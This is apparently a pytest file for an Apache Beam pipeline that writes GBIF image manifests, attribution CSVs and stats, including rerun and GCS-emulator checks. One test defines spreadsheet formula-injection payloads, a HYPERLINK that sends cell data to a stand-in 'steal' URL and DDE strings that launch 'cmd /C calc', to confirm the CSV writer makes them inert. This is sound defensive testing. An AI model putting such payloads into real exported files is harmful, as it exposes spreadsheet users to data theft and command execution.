"""WriteManifest: manifest Avro rows = the records, ATTRIBUTION.csv, stats.json, rerun replaces, gs://."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import apache_beam as beam
import fastavro
import pytest
from apache_beam.options.pipeline_options import PipelineOptions

from beam_gbif.core.records import FIELD_NAMES, MediaRecord, Status
from beam_gbif.transforms.manifest import (
    ATTRIBUTION_COLUMNS,
    ManifestSettings,
    WriteManifest,
    finalize_stats,
    format_summary,
    manifest_schema,
    read_attribution,
    read_manifest,
)
from beam_gbif.transforms.sources.dwca import archive_citation
from pipelines import stages

STATUSES = [Status.DOWNLOADED, Status.DOWNLOADED, Status.SKIPPED_EXISTING, Status.FAILED_HTTP, Status.FAILED_NOT_MEDIA]


def make_results(count: int, prefix: str = "http://127.0.0.1:1/img") -> list[MediaRecord]:
    records = []
    for i in range(count):
        status = STATUSES[i % len(STATUSES)]
        label = ["5352251", "Amanita muscaria", "a/b"][i % 3]
        record = MediaRecord(
            url=f"{prefix}/{i}.jpg",
            label=label,
            occurrence_key=1000 + i // 2,
            stream=(label, "ds-a" if i % 2 else "ds-b"),
            dataset_key="7a3679ef-5582-4aaa-81f0-8c2545cafc81",
            media_format="image/jpeg",
            license="http://creativecommons.org/licenses/by/4.0/" if i % 4 else "CC0",
            license_code="CC_BY_4_0" if i % 4 else "CC0_1_0",
            rights_holder=f"Holder, \"{i}\"",  # commas and quotes must survive the CSV
            creator="Jane\nDoe" if i == 1 else "Jane Doe",
            publisher="iNaturalist",
            references=f"https://www.inaturalist.org/observations/{i}",
            source="api",
            split="train" if i % 5 else "test",
        )
        if Status.is_failure(status):
            record = record.replace(status=status, error="HTTP 404")
        else:
            path = f"{record.split}/{record.label_dir}/{record.basename}.jpg"
            record = record.replace(status=status, path=path, bytes=1000 + i, sha256=f"{i:064x}", content_type="image/jpeg")
        records.append(record)
    return records


def run_manifest(records: list[MediaRecord], output: str, extra_args: tuple[str, ...] = ()) -> None:
    options = PipelineOptions(["--runner=FnApiRunner", *extra_args])
    with beam.Pipeline(options=options) as pipeline:
        pipeline | beam.Create(records) | WriteManifest(ManifestSettings(output=output))


def test_schema_has_every_record_field() -> None:
    schema = manifest_schema()
    assert [field["name"] for field in schema["fields"]] == list(FIELD_NAMES)
    fastavro.parse_schema(schema)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[MediaRecord]]:
    output = tmp_path_factory.mktemp("dataset")
    records = make_results(23)
    run_manifest(records, str(output))
    return output, records


def test_manifest_rows_equal_the_records(written: tuple[Path, list[MediaRecord]]) -> None:
    output, records = written
    assert read_manifest(str(output)) == sorted(records, key=lambda r: (r.url, r.occurrence_key))
    # Readable by any Avro reader, with the record's field names.
    shard = next((output / "manifest").glob("*.avro"))
    with shard.open("rb") as handle:
        row = next(fastavro.reader(handle))
    assert set(row) == set(FIELD_NAMES)


def test_attribution_lists_every_file_in_the_dataset(written: tuple[Path, list[MediaRecord]]) -> None:
    output, records = written
    with (output / "ATTRIBUTION.csv").open(newline="", encoding="utf-8") as handle:
        assert next(csv.reader(handle)) == list(ATTRIBUTION_COLUMNS)
    rows = read_attribution(str(output))
    in_dataset = [r for r in records if r.status in (Status.DOWNLOADED, Status.SKIPPED_EXISTING)]
    assert sorted(row["path"] for row in rows) == sorted(r.path for r in in_dataset)
    by_path = {row["path"]: row for row in rows}
    for record in in_dataset:
        row = by_path[record.path]
        assert row["url"] == record.url
        assert row["license"] == record.license and row["license_code"] == record.license_code
        assert row["rights_holder"] == record.rights_holder and row["creator"] == record.creator
        assert row["publisher"] == "iNaturalist" and row["dataset_key"] == record.dataset_key
        assert row["occurrence_url"] == f"https://www.gbif.org/occurrence/{record.occurrence_key}"


def test_attribution_rows_are_sorted_by_path_and_a_rerun_writes_the_same_bytes(tmp_path: Path) -> None:
    records = make_results(23)
    in_dataset = sorted(r.path for r in records if r.status in (Status.DOWNLOADED, Status.SKIPPED_EXISTING))
    # Fed in reverse path order, then in another order: the file must not follow either.
    run_manifest(sorted(records, key=lambda r: r.path, reverse=True), str(tmp_path / "one"))
    run_manifest(records[::2] + records[1::2], str(tmp_path / "two"))
    assert [row["path"] for row in read_attribution(str(tmp_path / "one"))] == in_dataset
    first, second = ((tmp_path / name / "ATTRIBUTION.csv").read_bytes() for name in ("one", "two"))
    assert first == second and first.startswith(b"path,url,") and first.count(b"\n") == len(in_dataset) + 1 + 1  # + header, + "Jane\nDoe"


FORMULAS = {
    "creator": '=HYPERLINK("http://127.0.0.1:1/steal?"&A1,"Click me")',
    "rights_holder": "-2+3+cmd|' /C calc'!A0",
    "publisher": "@SUM(1+1)*cmd|' /C calc'!A0",
    "license": "+1",
    "dataset_key": "\t=1+1",
}


def test_attribution_cells_that_would_start_a_formula_are_made_inert(tmp_path: Path) -> None:
    evil = make_results(1)[0].replace(**FORMULAS)
    plain = make_results(3)[2].replace(creator="Jane = Doe - 2", rights_holder="'quoted already", publisher="\r=1")
    run_manifest([evil, plain], str(tmp_path))
    rows = {row["url"]: row for row in read_attribution(str(tmp_path))}
    for column, value in FORMULAS.items():
        assert rows[evil.url][column] == "'" + value  # prefixed, the text otherwise kept
    assert rows[evil.url]["path"] == evil.path and rows[evil.url]["license_code"] == evil.license_code
    assert rows[plain.url]["creator"] == "Jane = Doe - 2"  # only the first character counts
    assert rows[plain.url]["rights_holder"] == "'quoted already"
    assert rows[plain.url]["publisher"] == "'\r=1"
    with (tmp_path / "ATTRIBUTION.csv").open(newline="", encoding="utf-8") as handle:
        cells = [cell for line in csv.reader(handle) for cell in line]
    assert len(cells) == 3 * len(ATTRIBUTION_COLUMNS)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_stats_add_up(written: tuple[Path, list[MediaRecord]]) -> None:
    output, records = written
    stats = json.loads((output / "stats.json").read_text(encoding="utf-8"))
    assert stats["records"] == len(records) == sum(stats["by_status"].values())
    downloaded = stats["by_status"][Status.DOWNLOADED]
    skipped = stats["by_status"][Status.SKIPPED_EXISTING]
    failed = sum(count for status, count in stats["by_status"].items() if Status.is_failure(status))
    assert downloaded + skipped + failed == stats["records"]
    assert stats["failed"] == failed and stats["files"] == downloaded + skipped
    assert stats["bytes"] == sum(r.bytes for r in records if not Status.is_failure(r.status))
    assert stats["bytes_downloaded"] == sum(r.bytes for r in records if r.status == Status.DOWNLOADED)
    assert sum(stats["by_split"].values()) == sum(stats["by_label"].values()) == sum(stats["by_license"].values()) == len(records)
    assert stats["by_license"] == {"CC0_1_0": 6, "CC_BY_4_0": 17}
    assert sum(sum(labels.values()) for labels in stats["files_by_split_label"].values()) == stats["files"]
    assert stats["output"] == str(output)


def test_finalize_stats_and_summary(tmp_path: Path) -> None:
    records = make_results(5)
    run_manifest(records, str(tmp_path))
    stats = finalize_stats(str(tmp_path), {"duplicate_urls": 3, "occurrences_without_label": 2}, 12.345,
                           details={"citation": "GBIF.org (1 January 2026) GBIF Occurrence Download https://doi.org/10.15468/dl.x"})
    on_disk = json.loads((tmp_path / "stats.json").read_text(encoding="utf-8"))
    assert on_disk == stats
    assert stats["counters"] == {"duplicate_urls": 3, "occurrences_without_label": 2}
    assert stats["seconds"] == 12.345 and stats["records"] == 5
    summary = format_summary(stats)
    assert "5 records in 12.3 s" in summary
    assert "DOWNLOADED 2" in summary and "FAILED_HTTP 1" in summary
    assert "CC_BY_4_0" in summary and "train" in summary and "duplicate_urls 3" in summary
    assert str(tmp_path) in summary
    with pytest.raises(FileNotFoundError, match="stats.json"):
        finalize_stats(str(tmp_path / "nothing-here"), {}, 1.0)


def test_rerun_replaces_the_manifest(tmp_path: Path) -> None:
    output = str(tmp_path)
    run_manifest(make_results(12, prefix="http://127.0.0.1:1/first"), output)
    first_shards = sorted(p.name for p in (tmp_path / "manifest").glob("*.avro"))
    # A stale shard of some older run, and a file that is not a shard (kept).
    (tmp_path / "manifest" / "part-19990101T000000-000000-00000-of-00007.avro").write_bytes(b"stale")
    (tmp_path / "manifest" / "NOTES.txt").write_text("mine")
    second = make_results(4, prefix="http://127.0.0.1:1/second")
    run_manifest(second, output)
    shards = sorted(p.name for p in (tmp_path / "manifest").glob("*.avro"))
    assert shards and not set(shards) & set(first_shards)
    assert len({name.rsplit("-", 3)[0] for name in shards}) == 1, shards  # one run id
    assert (tmp_path / "manifest" / "NOTES.txt").exists()
    assert read_manifest(output) == sorted(second, key=lambda r: (r.url, r.occurrence_key))
    assert json.loads((tmp_path / "stats.json").read_text())["records"] == 4
    assert len(read_attribution(output)) == 3  # DOWNLOADED, DOWNLOADED, SKIPPED_EXISTING
    assert not [p for p in tmp_path.rglob("*") if "beam-temp" in p.name or ".tmp" in p.name]


def test_empty_results_give_an_empty_manifest(tmp_path: Path) -> None:
    run_manifest([], str(tmp_path))
    assert read_manifest(str(tmp_path)) == []
    assert read_attribution(str(tmp_path)) == []
    stats = json.loads((tmp_path / "stats.json").read_text())
    assert stats["records"] == 0 and stats["by_status"] == {}


@pytest.fixture
def gcs() -> Iterator[Any]:
    """The GCS emulator (which also makes Beam's GCS filesystem anonymous while it runs)."""
    from beam_gbif.testing.gcs_emulator import GcsEmulator

    with GcsEmulator(bucket="manifest-test") as emulator:
        yield emulator


def test_manifest_on_gcs(gcs: Any) -> None:
    from google.cloud import storage

    from beam_gbif.io.store import gcs_client

    output = f"gs://{gcs.bucket}/datasets/plants"
    run_manifest(make_results(7, prefix="http://127.0.0.1:1/first"), output)
    bucket: storage.Bucket = gcs_client().bucket(gcs.bucket)
    bucket.blob("datasets/plants/manifest/part-19990101T000000-000000-00000-of-00001.avro").upload_from_string(b"stale")
    second = make_results(5, prefix="http://127.0.0.1:1/second")
    run_manifest(second, output)
    assert read_manifest(output) == sorted(second, key=lambda r: (r.url, r.occurrence_key))
    names = sorted(blob.name for blob in bucket.list_blobs(prefix="datasets/plants/"))
    shards = [name for name in names if name.startswith("datasets/plants/manifest/")]
    assert len(shards) == 1 and "19990101" not in shards[0], names
    assert set(names) == {*shards, "datasets/plants/ATTRIBUTION.csv", "datasets/plants/stats.json"}
    assert len(read_attribution(output)) == 3  # DOWNLOADED, DOWNLOADED, SKIPPED_EXISTING
    stats = finalize_stats(output, {"duplicate_urls": 1}, 3.0)
    assert stats["records"] == 5 and stats["counters"] == {"duplicate_urls": 1}
    assert json.loads(bucket.blob("datasets/plants/stats.json").download_as_bytes()) == stats


def test_stats_cite_the_gbif_download_read(tmp_path: Path, shared_data: Path) -> None:
    from apache_beam.options.pipeline_options import PipelineOptions as Options

    from pipelines.options import GbifMediaOptions

    options = Options([f"--dwca={shared_data / 'dwca' / '0026367-210914110416597.zip'}", f"--dwca_root_path={tmp_path / 'cache'}",
                       f"--output={tmp_path / 'out'}"]).view_as(GbifMediaOptions)
    (citation,) = [archive_citation(stages.dwca_settings(options))]  # build() passes the source's citation to the manifest
    transform = stages.write_manifest(options, [citation])
    records = [r.replace(source=citation["source"]) for r in make_results(3)]
    with beam.Pipeline(options=PipelineOptions(["--runner=FnApiRunner"])) as pipeline:
        pipeline | beam.Create(records) | transform
    stats = json.loads((tmp_path / "out" / "stats.json").read_text(encoding="utf-8"))
    (download,) = stats["gbif_downloads"]
    assert download["doi"] == "10.15468/dl.jd3hup"
    assert download["citation"].startswith("GBIF.org (") and download["citation"].endswith("GBIF Occurrence Download https://doi.org/10.15468/dl.jd3hup")
    assert f"cite:     {download['citation']}" in format_summary(stats)
